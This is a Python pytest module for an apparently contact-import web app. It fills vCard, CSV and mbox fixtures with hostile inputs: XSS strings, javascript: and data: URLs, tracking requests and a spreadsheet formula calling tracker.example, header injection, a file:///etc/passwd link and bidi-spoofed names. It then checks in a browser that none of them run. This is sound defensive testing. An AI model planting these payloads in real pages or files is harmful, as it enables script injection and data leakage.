"""Names, addresses and lines of mail that were made to harm: shown as what they are, on every page that shows them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from browser import Opened, Visits, followed, opened

from reknit.app.gather import gather
from reknit.app.house import open_house
from reknit.app.reading import Options
from reknit.app.rebuild import rebuild
from reknit.web.site import PAGES

RUNS = "window.hacked=1"
TEXTS = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f'"><svg/onload={RUNS}>',
    f"' autofocus onfocus={RUNS} x='",
    f"javascript:{RUNS}",
    f"</textarea></title><script>{RUNS}</script>",
    f"{{{{ [].constructor.constructor('{RUNS}')() }}}}",
    "<img src=http://tracker.example/seen.gif>",
    "<style>@import 'http://tracker.example/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=http://tracker.example/">',
    f'x" hx-get="/settings" hx-trigger="load" hx-on:load="{RUNS}',
    '=HYPERLINK("http://tracker.example/"&A1,"look")',
    "\u202etxt.exe\u202c \u2066moc.elpmaxe\u2069",
    "Z\u0351\u0343\u0346a\u0310\u0313l\u0301g\u0325o\u0317" * 12,
    "W" * 600,
    "%00%0d%0aSet-Cookie: a=b",
    "\u0000\u0007\u001b[31mred",
    "--><!--",
    "]]><![CDATA[",
    "👩‍👩‍👧‍👦 李小龍 محمد Ωμέγα",
)
URLS = (
    f"javascript:{RUNS}//x.example",
    f" JaVaScRiPt:{RUNS}",
    f"java\tscript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    "file:///etc/passwd",
    "//tracker.example/x",
    'https://x.example/"onmouseover="' + RUNS,
    "vbscript:x",
)
PHOTO = (
    "PHOTO;ENCODING=b;TYPE=SVG:PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+d2luZG93LmhhY2tlZD0xPC9z"
    "Y3JpcHQ+PC9zdmc+"
)
MAIL = """\
From MAILER-DAEMON Mon Mar  2 10:00:00 2020
Return-Path: <{sender}>
From: "{name}" <{sender}>
To: Robin Quill <robin@quill.example>
Cc: {text} <cc{n}@copies.example>
Subject: {text}
Message-ID: <{n}@hostile.example>
Date: Mon, 02 Mar 2020 10:0{m}:00 +0000

Hello Robin,

I have left the company. My new address is new{n}@hostile.example. {text}

--
{text}
Head of {text} | Lantern {text}
https://hostile.example/{text} | +44 20 7946 0{n:03}

"""
SCHEMES = frozenset({"http", "https", "mailto", "tel", ""})
INTRUDERS = "[onerror], [onload], [onfocus], [onmouseover], [hx-on], base, iframe, object, embed, style"
MOST = {"/person/*": 24, "/person/*/source/*": 8}
"""Pages of a kind that are looked at; of any other kind two."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Opened]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "cards.vcf").write_text("".join(map(_card, range(len(TEXTS)))), encoding="utf-8")
    (folder / "list.csv").write_text(_table(), encoding="utf-8")
    (folder / "mail.mbox").write_text("".join(map(_mail, range(len(TEXTS)))), encoding="utf-8")
    (folder / "<img src=x onerror=alert(1)>.txt").write_text("no list")
    house = open_house(folder / "home")
    gather(house, sorted(path for path in folder.iterdir() if path.is_file()), Options())
    rebuild(house)
    house.engine.dispose()
    with opened(folder / "home") as server:
        yield server


def _plain(text: str) -> str:
    return re.sub(r"[\r\n\x00-\x1f]", " ", text)


def _card(n: int) -> str:
    text = _plain(TEXTS[n]).replace(",", r"\,").replace(";", r"\;")
    return "\r\n".join(
        (
            "BEGIN:VCARD", "VERSION:3.0", f"N:{text};Person {n};;;", f"FN:Person {n} {text}", f"ORG:{text}",
            f"TITLE:{text}", f"EMAIL:person{n}@hostile.example", f"EMAIL:{text}@hostile.example",
            f"URL:{URLS[n % len(URLS)]}",
            f"TEL:{text}", f"TEL:+44 20 7946 0{n:03}", f"ADR:;;{text};{text};;{text};{text}", f"NOTE:{text}", PHOTO,
            "REV:2019-03-04T10:11:12Z", "END:VCARD", "",
        )
    )  # fmt: skip


def _table() -> str:
    rows = [
        f'"Row {n} {each}","row{n}@hostile.example","{each}","{each}","{URLS[n % len(URLS)]}"' for n, each in _quoted()
    ]
    return "\r\n".join(("Name,E-mail,Company,Job Title,LinkedIn", *rows, ""))


def _quoted() -> list[tuple[int, str]]:
    return [(n, _plain(text).replace('"', '""')) for n, text in enumerate(TEXTS)]


def _mail(n: int) -> str:
    text = _plain(TEXTS[n])
    name = text.replace('"', "'").replace("\\", "")
    return MAIL.format(sender=f"person{n}@hostile.example", name=name, text=text, n=n, m=n % 10)


def test_texts_are_shown_as_what_they_are(hostile: Opened, visits: Visits) -> None:
    """On every page that a link leads to: nothing runs, nothing is asked of another machine."""
    tab = visits.enter(hostile)
    tab.page.on("dialog", lambda dialog: tab.wrong.append(f"dialog: {dialog.message}"))
    seen = []
    for path in followed(tab, [page.path for page in PAGES], MOST, 2):
        seen.append(path)
        assert not tab.page.evaluate("window.hacked"), path
        assert not tab.page.locator(INTRUDERS).count(), path
        assert all(urlsplit(link.strip()).scheme.lower() in SCHEMES for link in tab.links()), (path, tab.links())
    shown = tab.page.context.pages
    assert len(shown) == 1
    assert len(seen) > len(TEXTS)
